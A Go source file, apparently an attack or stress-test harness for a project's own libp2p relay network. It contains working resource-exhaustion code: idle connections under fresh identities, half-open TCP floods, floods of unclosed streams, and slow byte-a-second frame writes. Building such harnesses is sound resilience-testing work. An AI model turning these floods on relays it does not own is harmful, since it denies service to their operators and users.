package attack

import (
	"context"
	"crypto/rand"
	"io"
	"net"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/sec"
	"github.com/libp2p/go-libp2p/p2p/muxer/yamux"
	"github.com/libp2p/go-libp2p/p2p/net/upgrader"
	"github.com/libp2p/go-libp2p/p2p/security/noise"
	manet "github.com/multiformats/go-multiaddr/net"

	"starling/p2p/wire"
)

// idle takes the places at every relay: connections that stay and do nothing, each
// of a new identity, a hundred a second. It opens closed ones again. The keeper of a
// connection is less than a host, so that one machine holds thousands.
func idle(ctx context.Context, m *machine) error {
	return m.crowd(ctx, 100, func(i int) {
		var c network.MuxedConn
		within(ctx, func(ctx context.Context) { c, _ = m.guest(ctx, m.relays[i%len(m.relays)]) })
		if c == nil {
			return
		}

		m.done.add()
		defer m.done.lost()
		defer c.Close()
		defer context.AfterFunc(ctx, func() { c.Close() })()
		for {
			s, err := c.AcceptStream()
			if err != nil {
				return // the relay has closed it
			}
			s.Reset() // it asks for our identity
		}
	})
}

// guest connects with a new identity as libp2p does, without a host.
func (m *machine) guest(ctx context.Context, relay peer.AddrInfo) (network.MuxedConn, error) {
	key, _, err := crypto.GenerateEd25519Key(rand.Reader)
	if err != nil {
		return nil, err
	}
	muxers := []upgrader.StreamMuxer{{ID: yamux.ID, Muxer: yamux.DefaultTransport}}
	secure, err := noise.New(noise.ID, key, muxers)
	if err != nil {
		return nil, err
	}
	up, err := upgrader.New([]sec.SecureTransport{secure}, muxers, nil, nil, nil)
	if err != nil {
		return nil, err
	}

	raw, err := m.dial(ctx, relay.Addrs[0])
	if err != nil {
		return nil, err
	}
	c, err := manet.WrapNetConn(raw)
	if err != nil {
		raw.Close()
		return nil, err
	}
	return up.Upgrade(ctx, nil, c, network.DirOutbound, relay.ID, &network.NullScope{})
}

// halfOpen opens TCP connections, a hundred a second, and says nothing on them.
func halfOpen(ctx context.Context, m *machine) error {
	return m.crowd(ctx, 100, func(i int) {
		relay := m.relays[i%len(m.relays)]
		var c net.Conn
		within(ctx, func(ctx context.Context) { c, _ = m.dial(ctx, relay.Addrs[0]) })
		if c == nil {
			return
		}
		m.done.add()
		defer c.Close()
		defer context.AfterFunc(ctx, func() { c.Close() })()
		io.Copy(io.Discard, c) // until the relay closes it
	})
}

// streams opens a connection to every relay and on each 300 streams a second, of
// a byte each, which it does not close.
func streams(ctx context.Context, m *machine) error {
	return m.each(ctx, func(ctx context.Context, relay peer.AddrInfo) error {
		h, err := m.host()
		if err != nil {
			return err
		}
		return m.crowd(ctx, 300, func(int) {
			within(ctx, func(ctx context.Context) {
				if h.Connect(ctx, relay) != nil {
					return
				}
				s, err := h.NewStream(ctx, relay.ID, wire.FrameProtocol)
				if err != nil {
					return
				}
				if _, err := s.Write([]byte{0}); err == nil {
					m.done.add()
				}
			})
		})
	})
}

// slow begins a frame on four links to every relay and goes on at a byte a second.
func slow(ctx context.Context, m *machine) error {
	const links = 4
	return m.each(ctx, func(ctx context.Context, relay peer.AddrInfo) error {
		h, err := m.host()
		if err != nil {
			return err
		}

		var open [links]network.Stream
		return m.paced(ctx, links, func(i int) {
			within(ctx, func(ctx context.Context) {
				s := &open[i%links]
				if *s == nil && h.Connect(ctx, relay) == nil {
					*s, _ = h.NewStream(ctx, relay.ID, wire.FrameProtocol)
				}
				if *s == nil {
					return
				}

				(*s).SetWriteDeadline(time.Now().Add(time.Second))
				if _, err := (*s).Write([]byte{byte(wire.TypePacket)}); err != nil {
					(*s).Reset()
					*s = nil
					return
				}
				m.done.add()
			})
		})
	})
}
